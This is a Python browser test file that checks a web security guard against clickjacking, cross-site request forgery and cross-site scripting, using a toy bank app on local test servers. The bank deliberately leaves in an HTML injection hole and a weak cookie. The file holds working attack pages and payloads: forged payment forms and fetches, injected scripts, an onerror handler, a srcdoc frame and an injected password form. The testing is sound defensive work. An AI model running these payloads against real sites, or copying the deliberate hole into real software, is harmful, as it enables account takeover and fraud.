"""Attacks of another site's page, and of injected HTML, in a real browser.

Each attack is first seen to work: the same bank without a guard is robbed. So a test that finds the guarded bank whole
says something.
"""

import time
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field
from urllib.parse import parse_qs, quote

import pytest
from fastapi import FastAPI, Request
from fastapi.responses import HTMLResponse, Response

from tests.browser.chromium import Page
from tests.browser.sites import serving
from workhorse.asgi import ASGIApp
from workhorse.context import current_request
from workhorse.guard import Guard
from workhorse.settings import GuardSettings

pytestmark = pytest.mark.browser

# The page's button, seen from its upper left corner.
BUTTON = (20, 18)


@dataclass
class Bank:
    """A bank on the web, which takes orders from whoever has the cookie."""

    paid: list[str] = field(default_factory=list)
    """To whom money went."""
    origin: str = ""
    guarded: bool = False

    def app(self) -> ASGIApp:
        api = FastAPI(openapi_url=None)

        @api.get("/login")
        async def login() -> Response:
            page = HTMLResponse("<p>Welcome, Alice.")
            # The weakest cookie there is: a browser sends it whoever asks.
            page.headers["set-cookie"] = "session=alice; SameSite=None; Secure; HttpOnly; Path=/"
            return page

        @api.get("/account")
        async def account() -> HTMLResponse:
            return HTMLResponse('<form method="post" action="/pay"><button name="to" value="bob">Pay</button></form>')

        @api.post("/pay")
        async def pay(request: Request) -> HTMLResponse:
            assert request.cookies.get("session") == "alice", "nobody has logged in"
            self.paid.extend(parse_qs((await request.body()).decode())["to"])
            return HTMLResponse("<p>Paid.")

        @api.get("/greet")
        async def greet(name: str) -> HTMLResponse:
            return HTMLResponse(f"<title>Bank</title><p>Hello, {name}")  # the hole: a name may be HTML

        @api.get("/own")
        async def own() -> HTMLResponse:
            nonce = current_request().nonce
            return HTMLResponse(f"<title>Bank</title><script nonce='{nonce}'>document.title = 'ours'</script>")

        @api.get("/favicon.ico")
        async def icon() -> Response:
            return Response(status_code=204)

        return Guard(api, settings=GuardSettings()) if self.guarded else api

    def stays_unpaid(self, seconds: float = 0.5) -> bool:
        time.sleep(seconds)
        return not self.paid

    def gets_to_pay(self, seconds: float = 10) -> list[str]:
        until = time.monotonic() + seconds
        while not self.paid and time.monotonic() < until:
            time.sleep(0.01)
        return self.paid


@pytest.fixture
def sites() -> Iterator[ExitStack]:
    """Whatever is served during a test."""
    with ExitStack() as stack:
        yield stack


@pytest.fixture
def open_bank(sites: ExitStack) -> Bank:
    bank = Bank()
    bank.origin = sites.enter_context(serving(bank.app()))
    return bank


@pytest.fixture
def guarded_bank(sites: ExitStack) -> Bank:
    bank = Bank(guarded=True)
    bank.origin = sites.enter_context(serving(bank.app()))
    return bank


def evil_page(sites: ExitStack, content: str) -> str:
    """The address of an attacker's page, on another site than the banks."""
    site = FastAPI(openapi_url=None)

    @site.get("/")
    async def index() -> HTMLResponse:
        return HTMLResponse(content)

    @site.get("/evil.js")
    async def script() -> Response:
        return Response("document.title = 'robbed'", media_type="text/javascript")

    return sites.enter_context(serving(site, host="127.0.0.1"))


# Clickjacking: the victim's own click, led astray.


def framing(bank: Bank) -> str:
    """A page that lays the bank's page, unseen, over a button of its own."""
    return f"""<style>
        iframe {{ position: absolute; top: 0; left: 0; width: 400px; height: 200px; border: 0; opacity: 0 }}
    </style>
    <button>Win a holiday!</button>
    <iframe src="{bank.origin}/account" onload="document.title = 'loaded'"></iframe>"""


def test_a_page_without_guard_can_be_framed_and_clicked_unseen(page: Page, sites: ExitStack, open_bank: Bank) -> None:
    page.open(f"{open_bank.origin}/login")
    page.open(evil_page(sites, framing(open_bank)))
    page.click_at(*BUTTON)
    assert open_bank.gets_to_pay() == ["bob"]


def test_a_frame_around_a_guarded_page_stays_empty(page: Page, sites: ExitStack, guarded_bank: Bank) -> None:
    page.open(f"{guarded_bank.origin}/login")
    page.open(evil_page(sites, framing(guarded_bank)))
    page.wait_for_complaint("frame-ancestors 'none'")
    page.click_at(*BUTTON)
    assert guarded_bank.stays_unpaid()


# Cross-site request forgery: the victim's cookie, sent along.


def forged_form(bank: Bank) -> str:
    return f"""<form method="post" action="{bank.origin}/pay"><input name="to" value="mallory"></form>
    <script>document.forms[0].submit()</script>"""


def forged_fetch(bank: Bank) -> str:
    return f"""<script>
        fetch("{bank.origin}/pay", {{
            method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({{to: "mallory"}}),
        }}).finally(() => document.title = "sent")
    </script>"""


def test_a_form_of_another_site_robs_an_open_bank(page: Page, sites: ExitStack, open_bank: Bank) -> None:
    page.open(f"{open_bank.origin}/login")
    page.open(evil_page(sites, forged_form(open_bank)))
    assert open_bank.gets_to_pay() == ["mallory"]


def test_a_form_of_another_site_gets_403(page: Page, sites: ExitStack, guarded_bank: Bank) -> None:
    page.open(f"{guarded_bank.origin}/login")
    page.open(evil_page(sites, forged_form(guarded_bank)))
    page.wait_until("location.pathname === '/pay' && document.readyState === 'complete'")
    assert page.status == 403
    assert guarded_bank.paid == []


def test_a_script_of_another_site_robs_an_open_bank(page: Page, sites: ExitStack, open_bank: Bank) -> None:
    page.open(f"{open_bank.origin}/login")
    page.open(evil_page(sites, forged_fetch(open_bank)))
    assert open_bank.gets_to_pay() == ["mallory"]


def test_a_script_of_another_site_gets_nothing(page: Page, sites: ExitStack, guarded_bank: Bank) -> None:
    page.open(f"{guarded_bank.origin}/login")
    page.open(evil_page(sites, forged_fetch(guarded_bank)))
    page.wait_until("document.title === 'sent'")
    assert guarded_bank.stays_unpaid()


def test_the_banks_own_form_is_served(page: Page, guarded_bank: Bank) -> None:
    page.open(f"{guarded_bank.origin}/login")
    page.open(f"{guarded_bank.origin}/account")
    page.click("button")
    page.wait_until("location.pathname === '/pay' && document.readyState === 'complete'")
    assert page.status == 200
    assert guarded_bank.paid == ["bob"]


def test_a_request_of_the_banks_own_script_is_served(page: Page, guarded_bank: Bank) -> None:
    page.open(f"{guarded_bank.origin}/login")
    send = "fetch('/pay', {method: 'POST', body: new URLSearchParams({to: 'carol'})}).then(reply => reply.status)"
    assert page.run(send) == 200
    assert guarded_bank.paid == ["carol"]


# Cross-site scripting: HTML that an attacker brought into the bank's own page.

INJECTIONS = {
    "a script": "<script>document.title = 'robbed'</script>",
    "a handler": "<img src=x onerror=\"document.title = 'robbed'\">",
    "a script of another site": "<script src=EVIL/evil.js></script>",
    "a frame with a document": "<iframe srcdoc=\"<script>parent.document.title = 'robbed'</script>\"></iframe>",
    "a script with a guessed nonce": "<script nonce=AAAAAAAAAAAAAAAAAAAAAA>document.title = 'robbed'</script>",
}


@pytest.mark.parametrize("injected", INJECTIONS.values(), ids=INJECTIONS)
def test_an_injected_script_runs_where_no_guard_stands(
    page: Page, sites: ExitStack, open_bank: Bank, injected: str
) -> None:
    page.open(greeting(open_bank, injected.replace("EVIL", evil_page(sites, ""))))
    page.wait_until("document.title === 'robbed'")


@pytest.mark.parametrize("injected", INJECTIONS.values(), ids=INJECTIONS)
def test_an_injected_script_does_not_run_in_a_guarded_page(
    page: Page, sites: ExitStack, guarded_bank: Bank, injected: str
) -> None:
    page.open(greeting(guarded_bank, injected.replace("EVIL", evil_page(sites, ""))))
    page.wait_for_complaint("Content Security Policy")
    assert page.run("document.title") == "Bank"


def test_a_script_with_the_nonce_of_its_reply_runs(page: Page, guarded_bank: Bank) -> None:
    page.open(f"{guarded_bank.origin}/own")
    assert page.run("document.title") == "ours"
    assert page.complaints == []


def test_a_form_that_was_injected_cannot_send_what_is_typed_elsewhere(
    page: Page, sites: ExitStack, guarded_bank: Bank
) -> None:
    evil = evil_page(sites, "<title>robbed</title>")
    page.open(greeting(guarded_bank, f'<form action="{evil}/"><input name="password"><button>Log in</button></form>'))
    page.click("button")
    page.wait_for_complaint("form-action 'self'")
    assert page.run("document.title") == "Bank"


def greeting(bank: Bank, name: str) -> str:
    return f"{bank.origin}/greet?name={quote(name)}"
